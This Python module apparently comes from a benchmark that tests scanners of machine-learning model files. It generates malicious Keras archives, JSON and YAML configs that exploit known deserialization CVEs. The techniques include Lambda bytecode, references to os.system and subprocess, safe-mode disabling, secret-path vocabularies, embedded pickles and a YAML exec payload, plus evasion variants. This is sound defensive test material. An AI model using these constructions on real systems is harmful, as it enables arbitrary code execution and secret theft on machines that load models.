"""Keras: configurations that name code, in archives, HDF5, JSON and YAML.

Source: the advisories named beside each technique; keras/src/saving/serialization_lib.py.
"""

from __future__ import annotations

import base64
import json
import marshal
from typing import Any

from bench.scanner_attacks.numpy_attacks import npy
from bench.scanner_attacks.pickle_forms import SYSTEM
from bench.scanner_attacks.stream import stream
from bench.scanner_attacks.techniques import COMMAND, SECRET, URL, Family
from bench.scanner_attacks.zips import Member, archive

FAMILY = Family("Keras")
PROGRAM = base64.b64encode(marshal.dumps((lambda x: x).__code__)).decode()
_INPUT = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
    "registered_name": None,
}
_LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "lambda",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": PROGRAM, "defaults": None, "closure": None},
        },
        "arguments": {},
    },
    "registered_name": None,
}


def function(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def _layer(class_name: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    known = {"module": module, "class_name": class_name, "registered_name": None}
    return {**known, "config": {"name": "layer", **config}}


def lambda_of(module: str, name: str, arguments: dict[str, Any]) -> dict[str, Any]:
    return _layer("Lambda", {"function": function(module, name), "arguments": arguments})


def model(*layers: dict[str, Any], **more: Any) -> dict[str, Any]:
    config = {"name": "model", "layers": [_INPUT, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, **more}


def keras_archive(config: Any, **files: bytes) -> bytes:
    metadata = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode()
    body = config if isinstance(config, bytes) else json.dumps(config).encode()
    members = [Member("metadata.json", metadata), Member("config.json", body)]
    return archive(*members, *(Member(name, content) for name, content in files.items()))


def _inbound(module: str, class_name: str, arguments: list[Any]) -> dict[str, Any]:
    # A call in the graph of a functional model: its arguments are the "tensors" before it.
    node = {"args": arguments, "kwargs": {}}
    layer = {"module": module, "class_name": class_name, "config": {"name": "x"}, "name": "x"}
    config = {
        "name": "model",
        "layers": [{**layer, "inbound_nodes": [node], "registered_name": None}],
        "input_layers": [["x", 0, 0]],
        "output_layers": [["x", 0, 0]],
    }
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config}


_CONFIGS: dict[str, tuple[Any, tuple[str, ...]]] = {
    "keras-lambda-bytecode": (model(_LAMBDA), ("CVE-2024-3660", "CVE-2026-12481")),
    "keras-lambda-in-wrapper": (model(_layer("TimeDistributed", {"layer": _LAMBDA})), ()),
    "keras-lambda-in-nested-model": (model(model(_LAMBDA)), ()),
    "keras-import-subprocess": (
        _inbound("subprocess", "run", [["echo", "muniment-bench"]]),
        ("CVE-2025-1550", "GHSA-48g7-3x6r-xfhp"),
    ),
    "keras-import-os": (model(_layer("system", {"command": COMMAND}, "os")), ("CVE-2025-1550",)),
    "keras-lambda-of-os-system": (model(lambda_of("os", "system", {})), ("CVE-2025-1550",)),
    "keras-lambda-of-get-file": (
        model(lambda_of("keras.utils", "get_file", {"origin": URL, "extract": True})),
        ("CVE-2025-8747", "GHSA-c9rc-mg46-23w3"),
    ),
    "keras-lambda-of-load-model": (
        model(lambda_of("keras.models", "load_model", {"safe_mode": False})),
        ("CVE-2025-9906", "CVE-2025-8747"),
    ),
    "keras-enables-unsafe": (
        model(lambda_of("keras.config", "enable_unsafe_deserialization", {}), _LAMBDA),
        ("CVE-2025-9906", "GHSA-36fq-jgmw-4r9c"),
    ),
    "keras-sets-global-attribute": (
        model(
            lambda_of(
                "keras.src.backend.common.global_state",
                "set_global_attribute",
                {"name": "safe_mode_saving", "value": False},
            )
        ),
        ("CVE-2025-9906",),
    ),
    "keras-vocabulary-path": (
        model(_layer("StringLookup", {"vocabulary": SECRET})),
        ("CVE-2025-12058", "GHSA-mq84-hjqx-cwf2"),
    ),
    "keras-vocabulary-url": (
        model(_layer("StringLookup", {"vocabulary": URL})),
        ("CVE-2025-12058",),
    ),
    "keras-vocabulary-text": (model(_layer("TextVectorization", {"vocabulary": SECRET})), ()),
    "keras-hub-tokenizer-path": (
        model(_layer("PARSeqTokenizer", {"vocabulary": SECRET}, "keras_hub.models")),
        ("huntr PARSeqTokenizer",),
    ),
    "keras-torch-module": (
        model(
            _layer(
                "TorchModuleWrapper",
                {"module": base64.b64encode(stream(SYSTEM, 2)).decode()},
            )
        ),
        ("CVE-2025-49655", "CVE-2026-12484"),
    ),
    "keras-saved-model-layer": (
        model(_layer("TFSMLayer", {"filepath": "saved", "call_endpoint": "serve"})),
        ("CVE-2026-1462", "GHSA-4f3f-g24h-fr8m"),
    ),
    "keras-saved-model-layer-url": (
        model(_layer("TFSMLayer", {"filepath": URL, "call_endpoint": "serve"})),
        ("CVE-2026-1462",),
    ),
    "keras-loss-function": (
        model(compile_config={"optimizer": "adam", "loss": function("os", "system")}),
        (),
    ),
    "keras-metric-lambda": (
        model(compile_config={"metrics": [_LAMBDA["config"]["function"]]}),
        (),
    ),
    "keras-activation-function": (
        model(_layer("Dense", {"units": 1, "activation": function("builtins", "eval")})),
        (),
    ),
    "keras-initializer-class": (
        model(_layer("Dense", {"units": 1, "bias": _layer("Popen", {}, "subprocess")})),
        (),
    ),
    "keras-name-escaped": (
        json.dumps(model(lambda_of("os", "system", {}))).replace('"os"', '"\\u006fs"').encode(),
        ("CVE-2025-1550",),
    ),
    "keras-duplicate-key": (
        json.dumps(model(_LAMBDA)).replace('"class_name": "Lambda"',
            '"class_name": "Dense", "class_name": "Lambda"').encode(),
        (),
    ),
}  # fmt: skip
for _name, (_config, _found) in _CONFIGS.items():
    FAMILY.add(_name, "model.keras", lambda config=_config: keras_archive(config), *_found)
FAMILY.add(
    "keras-unknown-class",
    "model.keras",
    lambda: keras_archive(model(_layer("Exporter", {"command": COMMAND}, "my_package.layers"))),
    least="review",
)
FAMILY.add(
    "keras-function-type",
    "model.keras",
    lambda: keras_archive(model(lambda_of("types", "FunctionType", {"code": PROGRAM}))),
    "huntr keras types.FunctionType",
    least="review",
)
FAMILY.add("keras-config-as-json", "model.json", lambda: json.dumps(model(_LAMBDA)))
FAMILY.add("keras-renamed-zip", "model.zip", lambda: keras_archive(model(_LAMBDA)), "CVE-2024-3660")
FAMILY.add(
    "keras-pickle-in-assets",
    "model.keras",
    lambda: keras_archive(model(), **{"assets/vocabulary.pkl": stream(SYSTEM)}),
)
FAMILY.add(
    "keras-objects-in-npz-weights",
    "model.keras",
    lambda: keras_archive(
        model(),
        **{
            "model.weights.npz": archive(
                Member(
                    "a.npy",
                    npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", stream(SYSTEM)),
                )
            )
        },
    ),
)
FAMILY.add(
    "keras-yaml-model",
    "model.yaml",
    lambda: (
        "!!python/object/new:type\nargs: ['z', !!python/tuple [],"
        " {'extend': !!python/name:exec }]\n"
        f'listitems: "print({COMMAND!r})"\n'
    ),
    "CVE-2021-37678",
    "GHSA-r6jx-9g48-2r5r",
)
